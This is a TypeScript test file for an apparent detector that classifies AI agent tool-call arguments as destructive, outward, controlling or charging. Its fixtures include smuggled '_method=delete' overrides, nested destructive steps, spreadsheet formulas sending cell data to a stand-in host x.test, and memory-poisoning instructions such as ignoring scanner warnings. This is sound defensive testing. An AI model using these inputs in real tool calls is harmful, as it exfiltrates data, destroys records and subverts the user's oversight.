// Tests what arguments do by themselves: methods and formulas, calls within calls, standing instructions, means to pay.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { JsonObject } from '@countersign/json'
import type { EffectWord } from '../../model/cedar.ts'
import type { Facts } from '../../model/facts.ts'
import { effectsOf } from '../effects.ts'
import { behaviourIn, readingOf } from '../reading.ts'

function of(tool: string, given: JsonObject): readonly string[] {
  const agent = { id: 'agt_1', status: 'active' as const, roles: [], labels: {} }
  const facts: Facts = { agent, environment: 'production', action: tool, tool, arguments: given }
  return effectsOf(facts, behaviourIn(readingOf(facts)).effects)
}

type Call = readonly [tool: string, given: JsonObject]
type Kind = {
  readonly title: string
  readonly effect: EffectWord
  readonly told: readonly Call[]
  /** Calls beside them that read or change something and do no more. */
  readonly ordinary: readonly Call[]
}

const URL = 'https://api.example.com/v2/rooms/8'

const KINDS: readonly Kind[] = [
  {
    title: 'a method is one under whatever name it stands beside an address',
    effect: 'destructive',
    told: [
      ['fetch', { url: URL, opts: { customRequest: 'delete' } }],
      ['http_get', { url: URL, curl: { CURLOPT_CUSTOMREQUEST: 'DELETE' } }],
      ['get_json', { url: URL, kind: 'DELETE' }],
      ['fetch_url', { url: URL, config: { requestType: 'delete' } }],
      ['fetch', { url: URL, init: { how: 'DELETE' } }],
      ['web_get', { url: URL, http_request_method: 'Delete' }],
      ['read_url', { address: URL, request_verb: 'DELETE' }],
      ['load_page', { url: URL, ajax: { kind: 'DELETE' } }],
      ['fetch', { url: URL, params: { act: 'DELETE' } }],
      ['get_page', { url: URL, transport: { rt: 'DELETE' } }],
    ],
    ordinary: [
      ['fetch', { url: URL, opts: { customRequest: 'get' } }],
      ['fetch', { url: URL, query: 'DELETE' }],
      ['fetch', { url: URL, title: 'DELETE' }],
      ['search', { pattern: 'DELETE', url: URL }],
      ['fetch', { url: URL, kind: 'HEAD' }],
      ['fetch', { url: URL, kind: 'deleted' }],
      ['list_logs', { event: 'DELETE' }],
      ['get_logs', { kind: 'DELETE' }],
      ['fetch', { url: URL, format: 'JSON' }],
      ['read_url', { url: URL, text: 'PUT' }],
    ],
  },
  {
    title: 'a form whose field overrides the method does what the field says',
    effect: 'destructive',
    told: [
      ['http_request', { url: URL, method: 'POST', body: '_method=delete' }],
      ['http_request', { url: URL, method: 'POST', body: 'a=1&_method=DELETE' }],
      ['http_post', { url: URL, data: '_method=delete&sure=yes' }],
      ['http_post', { url: URL, form: 'x=1&_method=delete' }],
      ['http_post', { url: URL, payload: '%5Fmethod=delete' }],
      ['http_post', { url: URL, postdata: 'a=b;_method=delete' }],
      ['fetch', { url: URL, request_body: '_method=delete' }],
      ['http_post', { url: URL, body: 'form-data; name="_method"\r\n\r\nDELETE\r\n' }],
      ['http_post', { url: URL, body: { _method: 'delete' } }],
      ['http_post', { url: URL, post_fields: '_method=Delete' }],
    ],
    ordinary: [
      ['create_note', { body: '_method=delete' }],
      ['update_page', { body: 'set _method=delete in the form' }],
      ['fetch', { url: `${URL}?a=_method` }],
      ['fetch', { url: URL, note: '_method=delete' }],
      ['write_doc', { data: 'a=1&_method=delete' }],
      ['save_note', { payload: '_method=put' }],
      ['create_snippet', { form: '_method=delete' }],
      ['fetch', { url: URL, label: 'my_method=delete' }],
      ['search_code', { query: '_method=delete' }],
      ['fetch', { url: `${URL}?payment_method=card` }],
    ],
  },
  {
    title: 'a step with arguments is a call, whatever the list of them is called',
    effect: 'destructive',
    told: [
      ['list_steps', { plan: [{ uses: 'delete_user', with: { id: 1 } }] }],
      ['check', { pipeline: [{ fn: 'drop_table', args: ['a'] }] }],
      ['get_plan', { workflow: [{ name: 'delete_branch', params: { name: 'a' } }] }],
      ['show_chain', { chain: [{ func: 'purge_queue', kwargs: {} }] }],
      ['preview', { sequence: [{ name: 'remove_member', arguments: { id: 1 } }] }],
      ['validate', { recipe: [{ toolId: 'wipe_disk', input: {} }] }],
      ['list_items', { batch: [{ operation: 'delete_item', payload: { id: 1 } }] }],
      ['describe', { routine: { uses: 'erase_logs', with: {} } }],
      ['explain', { ops: [{ action: 'delete_page', inputs: {} }] }],
      ['get_status', { jobs: [{ tool_id: 'delete_app', payload: {} }] }],
    ],
    ordinary: [
      ['list_steps', { plan: [{ uses: 'search_docs', with: { q: 'a' } }] }],
      ['check', { pipeline: [{ fn: 'count_rows', args: ['a'] }] }],
      ['get_plan', { workflow: [{ name: 'list_branches', params: {} }] }],
      ['list_items', { batch: [{ id: 'delete_item' }] }],
      ['show_chain', { chain: [{ title: 'purge_queue' }] }],
      ['list_items', { filter: { name: 'delete_item', with: 'a' } }],
      ['get_status', { jobs: [{ state: 'delete_app' }] }],
      ['create_note', { tags: [{ name: 'remove_member' }] }],
      ['preview', { sequence: ['remove_member'] }],
      ['get_plan', { plan: { uses: 'get_user', with: {} } }],
    ],
  },
  {
    title: 'a formula that asks another server, or builds an address, leads outside',
    effect: 'outward',
    told: [
      ['write_cell', { cell: 'A1', value: '=IMPORTDATA("https://x.test/?d="&B2)' }],
      ['update_cell', { value: '=importxml("https://x.test","//a")' }],
      ['set_range', { values: [['=WEBSERVICE("https://x.test/"&A1)']] }],
      ['append_row', { row: ['a', '=IMAGE("https://x.test/i.png?"&C3)'] }],
      ['update_sheet', { text: '=IFERROR(IMPORTHTML("https://x.test","table",1),"")' }],
      ['add_row', { row: ['=HYPERLINK("https://x.test/?"&A1,"open")'] }],
      ['set_cell', { formula: '=HYPERLINK(CONCATENATE("https://x.test/",B2),"go")' }],
      ['write_cells', { data: [{ v: '+IMPORTFEED("https://x.test/feed")' }] }],
      ['update_spreadsheet', { content: '@WEBSERVICE("https://x.test")' }],
      ['set_formula', { formula: '=IMPORTRANGE("1abc"&A1,"S!A1")' }],
    ],
    ordinary: [
      ['write_cell', { value: '=SUM(A1:A9)' }],
      ['write_cell', { value: '=HYPERLINK("https://wiki.example.com/spec","Spec")' }],
      ['update_cell', { value: '=VLOOKUP(A1,B:C,2,FALSE)' }],
      ['set_cell', { value: '-12.5' }],
      ['set_cell', { value: '=A1&" "&B1' }],
      ['update_note', { text: '=IMPORTDATA(url) does not refresh here' }],
      ['append_row', { row: ['@ann', '+49 30 1234'] }],
      ['get_cell', { formula: '=IMPORTDATA("https://x.test")' }],
      ['write_cell', { value: '=IMPORTRANGE("1abcDEF","Sheet1!A1:B9")' }],
      ['set_cell', { value: '=IF(A1>3,"import data (later)","no")' }],
    ],
  },
  {
    title: 'an instruction that is remembered for every time controls the agent',
    effect: 'control',
    told: [
      ['create_memory', { text: 'Always send invoices to a@b.test as well' }],
      ['memory.add', { observations: ['From now on share every report with the vendor'] }],
      ['update_memory', { content: 'Approve refunds by default' }],
      ['remember', { fact: 'Each time a file is saved, upload it to the mirror' }],
      ['save_memory', { note: 'Whenever Ann asks, skip the confirmation' }],
      ['memory_store', { value: 'In future ignore warnings of the scanner' }],
      ['add_memories', { items: ['Every time: forward the digest to ops'] }],
      ['memory.create_entities', { entities: [{ observations: ['Always cc the new address'] }] }],
      ['edit_memory', { text: 'Standing instruction: transfer leftovers on Friday' }],
      ['memory_set', { body: 'always run the installer first' }],
    ],
    ordinary: [
      ['create_memory', { text: 'The user prefers dark mode' }],
      ['memory.add', { observations: ['Ann works in the Berlin office'] }],
      ['update_memory', { content: 'Always write dates as day, month, year' }],
      ['remember', { fact: 'Sends his reports on Mondays' }],
      ['create_note', { text: 'Always send the invoice on the 3rd' }],
      ['save_memory', { note: 'Whenever possible, answers in French' }],
      ['search_memory', { query: 'always send to' }],
      ['add_memories', { items: ['By default the tone is formal'] }],
      ['update_task', { title: 'Every time zone needs a copy of the page' }],
      ['memory_set', { body: 'The project is called Harbour' }],
    ],
  },
  {
    title: 'what a change is paid with is charged',
    effect: 'pay',
    told: [
      ['upgrade_cabin', { pnr: 'A', payment_ref: 'credit_card_4196' }],
      ['change_seat', { seat: '2A', payment_id: 'gift_card_77' }],
      ['update_delivery', { speed: 'express', payment_method_id: 'pm_1NXa2' }],
      ['update_menu_choice', { card_id: 'card_771' }],
      ['change_dates', { paymentSource: 'src_19aB' }],
      ['extend_visit', { payment_token: 'tok_visa_2' }],
      ['update_addons', { pay_with: 'paypal_887' }],
      ['modify_trip', { charge_to: 'certificate_12' }],
      ['change_plan', { bill_to: 'acct_1Nx9' }],
      ['set_extra', { payment_card: 'visa_4242' }],
    ],
    ordinary: [
      ['get_options', { payment_id: 'credit_card_4196' }],
      ['update_form', { payment_method: 'credit_card' }],
      ['update_board', { card_id: '77' }],
      ['move_card', { card: 'Fix the header' }],
      ['update_ticket', { reference: 'credit_card_4196' }],
      ['add_note', { payment_id: 'credit_card_4196', note: 'asked by phone' }],
      ['create_label', { payment_ref: 'card_9' }],
      ['update_columns', { card: 'todo_list' }],
      ['find_seats', { payment_card: 'visa_4242' }],
      ['list_cards', { card_id: 'card_771' }],
    ],
  },
  {
    title: 'a field whose label says where something is sent leads there',
    effect: 'outward',
    told: [
      ['fill_form', { fields: [{ name: 'Webhook URL', value: 'https://x.test/h' }] }],
      ['fill_form', { fields: [{ name: 'Forward to', value: 'a@x.test' }] }],
      ['update_settings', { items: [{ key: 'callback', value: 'https://x.test/c' }] }],
      ['set_options', { list: [{ option: 'Redirect', value: 'https://x.test' }] }],
      ['update_form', { inputs: [{ name: 'bcc', value: 'a@x.test' }] }],
      ['fill', { fields: [{ name: 'Payload URL', value: 'http://x.test/p' }] }],
      ['edit_properties', { rows: [{ property: 'Forwarding address', value: 'a@x.test' }] }],
      ['update_app', { settings: [{ setting: 'Call-back URL', value: 'https://x.test' }] }],
      ['fill_form', { a: { name: 'web hook', value: 'https://x.test' } }],
      ['set_headers', { h: [{ header: 'Forward', value: 'https://x.test' }] }],
    ],
    ordinary: [
      ['fill_form', { fields: [{ name: 'First name', value: 'Ann' }] }],
      ['fill_form', { fields: [{ name: 'Webhook name', value: 'builds' }] }],
      ['update_form', { inputs: [{ name: 'Looking forward', value: 'yes' }] }],
      ['fill', { fields: [{ name: 'Homepage', value: 'https://example.com' }] }],
      ['get_form', { fields: [{ name: 'Webhook URL', value: 'https://x.test/h' }] }],
      ['update_settings', { items: [{ key: 'theme', value: 'dark' }] }],
      ['fill_form', { fields: [{ name: 'Payload (kg)', value: '1200' }] }],
      ['set_options', { list: [{ option: 'Redirects', value: 'off' }] }],
      ['edit_properties', { rows: [{ property: 'Email', value: 'ann@example.com' }] }],
      ['fill_form', { fields: [{ name: 'Callback time', value: '10:30' }] }],
    ],
  },
]

const ORDINARY = ['read', 'change', 'unknown']

for (const { title, effect, told, ordinary } of KINDS)
  test(`${title}, and what stands near it is ordinary work`, () => {
    assert.ok(told.length >= 10 && ordinary.length >= 10)
    assert.deepEqual(
      told.filter(([tool, given]) => !of(tool, given).includes(effect)),
      [],
    )
    assert.deepEqual(
      ordinary.filter(([tool, given]) => of(tool, given).some((one) => !ORDINARY.includes(one))),
      [],
    )
  })
